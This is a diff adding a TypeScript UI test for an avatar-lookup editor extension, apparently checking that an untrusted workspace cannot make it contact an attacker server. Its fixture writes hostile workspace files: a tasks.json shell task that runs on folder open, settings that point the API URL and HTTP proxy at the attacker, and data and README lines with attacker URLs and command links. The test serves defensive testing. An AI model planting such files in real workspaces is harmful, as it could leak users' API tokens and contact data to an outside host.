@@ -1,0 +1,165 @@
+import assert from 'node:assert/strict';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import path from 'node:path';
+import { after, before, describe, it } from 'mocha';
+import { uiFolder } from '../host/paths.ts';
+import { addInstance } from './instanceForm.ts';
+import { pictureSize } from './pageElement.ts';
+import { SHOP, useSimulator } from './simulated.ts';
+import { until } from './until.ts';
+import { useWindow } from './window.ts';
+
+const MAYA = '79001234567@c.us';
+const MARCUS = '12025550143@c.us';
+const OWEN = '447700900123@c.us';
+const BAIT = '79001234599@c.us';
+
+/** What somebody may hand to a developer, in the hope that opening or hovering does the rest. */
+function hostileFiles(evil: string): Record<string, string> {
+  const idInstance = Number(SHOP.idInstance);
+  return {
+    '.vscode/settings.json': JSON.stringify({
+      'avatarLens.hover.lookUp': 'automatic',
+      'avatarLens.hover.size': 320,
+      'avatarLens.apiUrl': evil,
+      'avatarLens.inline.enabled': true,
+      'avatarLens.documentLinks.enabled': true,
+      'avatarLens.numericIds.keys': ['.*'],
+      'http.proxy': evil,
+      'http.proxyStrictSSL': false,
+    }),
+    '.vscode/tasks.json': JSON.stringify({
+      version: '2.0.0',
+      tasks: [
+        {
+          label: 'steal',
+          command: `echo \${input:a} \${input:b}`,
+          type: 'shell',
+          runOptions: { runOn: 'folderOpen' },
+        },
+      ],
+      inputs: [
+        { id: 'a', type: 'command', command: 'avatarLens.lookUp', args: BAIT },
+        {
+          id: 'b',
+          type: 'command',
+          command: 'avatarLens.addInstance',
+          args: { idInstance, apiTokenInstance: 'a'.repeat(50), apiUrl: evil, product: 'whatsapp' },
+        },
+      ],
+    }),
+    'people.json': [
+      JSON.stringify({ idInstance, chatId: MAYA, apiUrl: evil }),
+      JSON.stringify({ chatId: MARCUS, url: `${evil}/waInstance${idInstance}/getAvatar/x` }),
+      JSON.stringify({ chatId: OWEN, apiUrl: evil, apiTokenInstance: 'b'.repeat(50) }),
+      JSON.stringify({ urlAvatar: `${evil}/avatar.jpg` }),
+      '',
+    ].join('\n'),
+    'README.md': `![a](${evil}/a.png) [b](command:avatarLens.lookUp?%22${BAIT}%22) ${BAIT}\n`,
+  };
+}
+
+describe('A workspace of strangers', () => {
+  const folder = path.join(uiFolder, 'trust-workspace');
+  const evilRequests: string[] = [];
+  const evil = createServer((request, response) => {
+    evilRequests.push(`${request.method} ${request.url}`);
+    response.end();
+  });
+  evil.on('connect', (request, socket) => {
+    evilRequests.push(`CONNECT ${request.url}`);
+    socket.end();
+  });
+  const simulator = useSimulator({
+    instances: [{ ...SHOP, typeInstance: 'whatsapp' }],
+    contacts: [MAYA, MARCUS, OWEN].map((chatId) => ({ chatId, avatar: 'picture' })),
+  });
+  before(async () => {
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+    const origin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
+    for (const [name, text] of Object.entries(hostileFiles(origin))) {
+      const file = path.join(folder, name);
+      mkdirSync(path.dirname(file), { recursive: true });
+      writeFileSync(file, text);
+    }
+  });
+  after(() => evil.close());
+  const window = useWindow({ name: 'trust', folder, restricted: true });
+  const asked = () =>
+    simulator().requests.flatMap(({ method, body }) =>
+      method === 'getAvatar' ? [(body as { chatId: string }).chatId] : [],
+    );
+  /** The account's own picture is asked for once it was added. */
+  const askedByHand = () => asked().filter((chatId) => !chatId.startsWith('7900000'));
+
+  before(async function () {
+    this.timeout(60_000);
+    await window().openView('Avatar Lens');
+    await addInstance(window(), SHOP, simulator().origin);
+    await window().openFile('people.json');
+  });
+
+  it('gets nothing sent by hovering in Restricted Mode, and offers a click instead', async () => {
+    const hover = await window().hoverText(MAYA, /Look up/);
+    assert.equal(await hover.locator('img').count(), 0);
+    await window().screenshot('restricted hover');
+    await window().leaveText();
+    await window().hoverText(MARCUS, /Look up/);
+    await window().leaveText();
+    assert.deepEqual(askedByHand(), []);
+  });
+
+  it('lets the click ask, and shows the hover again with the answer', async () => {
+    const hover = await window().hoverText(MAYA, /Look up/);
+    await hover.getByText('Look up', { exact: true }).click();
+    const answered = window().hover.filter({ hasText: 'Picture' });
+    await answered.waitFor();
+    assert.equal((await pictureSize(answered.locator('img'))).width, 640);
+    assert.deepEqual(askedByHand(), [MAYA]);
+    await window().page.keyboard.press('Escape');
+    await window().leaveText();
+  });
+
+  it('shows what is stored without a click', async () => {
+    const hover = await window().hoverText(MAYA, /Picture/);
+    assert.equal((await pictureSize(hover.locator('img'))).width, 640);
+    await window().leaveText();
+    assert.deepEqual(askedByHand(), [MAYA]);
+  });
+
+  it('gets one getAvatar for each hovered id once it is trusted, to the user’s own instance', async () => {
+    await window().runCommand('Workspaces: Manage Workspace Trust');
+    await window().page.getByRole('button', { name: 'Trust', exact: true }).click();
+    await window().page.getByText('You trust this folder').first().waitFor();
+    await window().runCommand('View: Close Editor');
+    await window().openFile('README.md');
+    await window().openFile('people.json');
+    for (const chatId of [MARCUS, OWEN]) {
+      await window().hoverText(chatId, /Picture/);
+      await window().leaveText();
+    }
+    assert.deepEqual(askedByHand(), [MAYA, MARCUS, OWEN]);
+  });
+
+  it('cannot set how, where or how much is asked', async () => {
+    const hover = await window().hoverText(OWEN, /Picture/);
+    assert.equal(await hover.locator('img').getAttribute('width'), '96');
+    await window().leaveText();
+    await window().updateSettings({ 'avatarLens.hover.lookUp': 'off' });
+    await window().openFile('people.json');
+    await window().pointAt(OWEN);
+    await until('the setting of the user to count', async () => {
+      await window().leaveText();
+      await window().pointAt(OWEN);
+      return !(await window().hover.filter({ hasText: '+44' }).isVisible());
+    });
+    await window().leaveText();
+  });
+
+  it('never hears from us', () => {
+    assert.deepEqual(evilRequests, []);
+    assert.ok(!asked().includes(BAIT));
+  });
+});
